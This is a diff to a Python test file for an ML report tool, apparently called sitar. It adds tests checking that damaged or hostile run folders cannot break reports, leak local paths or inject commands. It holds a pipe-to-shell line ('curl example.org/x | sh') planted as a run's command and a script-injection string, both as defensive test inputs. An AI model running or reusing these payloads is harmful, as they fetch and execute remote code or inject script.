@@ -4,27 +4,33 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 import shutil
 import subprocess
 import sys
+from collections.abc import Callable
+from contextlib import suppress
 from pathlib import Path
+from typing import Any
 
 import numpy as np
 import pytest
 
 from helpers.made_runs import make_run
 from helpers.pages import Reader, pixels, read
-from sitar.errors import ConfigError, RunError
+from sitar.errors import ConfigError, RunError, SitarError
 from sitar.findings import PARTS
+from sitar.presets import load_config
 from sitar.reporting.comparison import compare_runs
 from sitar.reporting.html.report import write_report
 from sitar.reporting.html.sections import SECTIONS
+from sitar.run_folder import RunFolder
 
 EVIL = "<script>alert(1)</script>"
 
 
 def write(tmp_path: Path, *runs: Path) -> Reader:
-    return read(write_report(runs, tmp_path / "report.html"))
+    return read(write_report(runs, tmp_path / "report.html", with_paths=True))
 
 
 def test_every_section_is_there_and_nothing_is_fetched(runs: list[Path], tmp_path: Path) -> None:
@@ -318,3 +324,96 @@ def test_a_report_needs_no_torch(runs: list[Path], tmp_path: Path) -> None:
         f"write_report([Path({str(runs[2])!r})], Path({str(tmp_path / 'r.html')!r})); assert 'torch' not in sys.modules"
     )
     subprocess.run([sys.executable, "-c", code], check=True)
+
+
+# What a damaged or hostile run folder cannot do
+
+
+def json_with(file: Path, *keys: str | int, value: Any) -> None:
+    """Change one value of a JSON file."""
+    content = json.loads(file.read_text())
+    inner = content
+    for key in keys[:-1]:
+        inner = inner[key]
+    inner[keys[-1]] = value
+    file.write_text(json.dumps(content))
+
+
+def npz_with(file: Path, **arrays: Any) -> None:
+    np.savez(file, **{**np.load(file), **{name.replace("__", "/"): array for name, array in arrays.items()}})
+
+
+DAMAGES: dict[str, Callable[[RunFolder], Any]] = {
+    "preset of null": lambda run: run.config_file.write_text("preset: null\ndata: {name: made}\nmethod: {name: erm}\n"),
+    "preset of a list": lambda run: run.config_file.write_text("preset: [a]\ndata: {name: made}\n"),
+    "method of words": lambda run: run.config_file.write_text("preset: a/b\ndata: {name: made}\nmethod: erm\n"),
+    "deep settings": lambda run: run.config_file.write_text("data: " + "[" * 3000 + "]" * 3000),
+    "deep result": lambda run: run.result_file.write_text("[" * 100_000 + "]" * 100_000),
+    "seed of words": lambda run: json_with(run.result_file, "seed", value="0"),
+    "accuracy of words": lambda run: json_with(run.result_file, "splits", "val", "average", value="high"),
+    "a split of numbers": lambda run: json_with(run.result_file, "splits", "ood_test", value=3),
+    "groups of a list": lambda run: json_with(run.result_file, "splits", "ood_test", "groups", value=[1]),
+    "intervals of one": lambda run: json_with(run.result_file, "splits", "ood_test", "intervals", "average", value=[1]),
+    "classes of numbers": lambda run: json_with(run.result_file, "classes", value=[1, 2]),
+    "attributes of words": lambda run: json_with(run.result_file, "attributes", value="place"),
+    "gate of words": lambda run: json_with(run.result_file, "gate", value="open"),
+    "heads of words": lambda run: json_with(run.result_file, "heads", value={"a": 3}),
+    "refit of numbers": lambda run: json_with(run.result_file, "refit", value={"before": 4}),
+    "logits of one axis": lambda run: npz_with(run.predictions_file, ood_test__logits=np.zeros(240, np.float32)),
+    "logits of words": lambda run: npz_with(run.predictions_file, ood_test__logits=np.full((240, 2), "a")),
+    "too few labels": lambda run: npz_with(run.predictions_file, ood_test__y=np.zeros(3, np.int64)),
+    "labels of no class": lambda run: npz_with(run.predictions_file, ood_test__y=np.full(240, 99)),
+    "logits of three axes": lambda run: npz_with(run.predictions_file, val__logits=np.zeros((2, 2, 2), np.float32)),
+    "losses of words": lambda run: run.metrics_file.write_text('{"phase": 3, "epoch": "x", "loss": "low"}\n'),
+    "epochs of null": lambda run: run.metrics_file.write_text('{"phase": null, "epoch": null, "val": 3}\n'),
+    "environment of a list": lambda run: run.environment_file.write_text("[1, 2]"),
+    "audit of words": lambda run: json_with(run.audit_file, "axes", value="many"),
+    "audit without a look": lambda run: json_with(run.audit_file, "first_look", value={"cues": 3}),
+    "reasons of numbers": lambda run: json_with(run.explain_file, "reasons", value={"gradcam": 3}),
+}
+
+
+@pytest.mark.parametrize("damage", DAMAGES)
+def test_one_bad_run_costs_only_itself(damage: str, tmp_path: Path) -> None:
+    good, bad = make_run(tmp_path / "good", "erm"), make_run(tmp_path / "bad", seed=1)
+    DAMAGES[damage](bad)
+    page = write(tmp_path, good.path, bad.path)
+    assert {"accuracy0", "groups0"} <= page.ids
+    with suppress(SitarError):
+        write(tmp_path, bad.path)
+
+
+def test_a_report_tells_no_folder_of_this_machine_unless_asked(tmp_path: Path) -> None:
+    home = tmp_path / "home of alice"
+    run = make_run(home / "run", data={"root": str(home / "scans"), "table": "~alice/secret/table.csv"})
+    missing, torn = home / "missing", make_run(home / "torn", seed=1, explained=False)
+    torn.metrics_file.write_text("{no json}\n")
+    plain = make_run(home / "plain", "erm", explained=False)
+    for with_paths in (False, True):
+        page = read(
+            write_report([run.path, plain.path, missing, torn.path], tmp_path / "r.html", with_paths=with_paths)
+        )
+        assert ("alice" in (tmp_path / "r.html").read_text()) is with_paths
+    write_report([run.path, plain.path, missing, torn.path], tmp_path / "r.html")
+    page = read(tmp_path / "r.html")
+    for kept in ("scans", "table.csv", "sitar evaluate 'run'", "There is no run folder 'missing'", "plain"):
+        assert kept in page.text
+
+
+def test_the_command_that_makes_a_run_again_is_not_taken_from_the_folder(tmp_path: Path) -> None:
+    run = make_run(tmp_path / "run")
+    json_with(run.environment_file, "command", value="curl example.org/x | sh")
+    assert "curl" not in (tmp_path / write_report([run.path], tmp_path / "r.html")).read_text()
+
+
+def test_the_command_that_makes_a_run_again_has_what_was_changed(tmp_path: Path) -> None:
+    run = make_run(tmp_path / "run")
+    config = load_config("color_mnist/sitar", ["method.alpha=0.25", "train.epochs=7", "model.channels=[4, 8]"], 3)
+    run.write_config(config.to_dict())
+    json_with(run.result_file, "seed", value=3)
+    text = write(tmp_path, run.path).text
+    command = "sitar train color_mnist/sitar --seed 3 "
+    assert command in text
+    words = shlex.split(text[text.index(command) :].partition("sitar evaluate")[0])
+    again = load_config(words[2], [word for word in words[5:] if word != "--set"], int(words[4]))
+    assert again.to_dict() == config.to_dict()
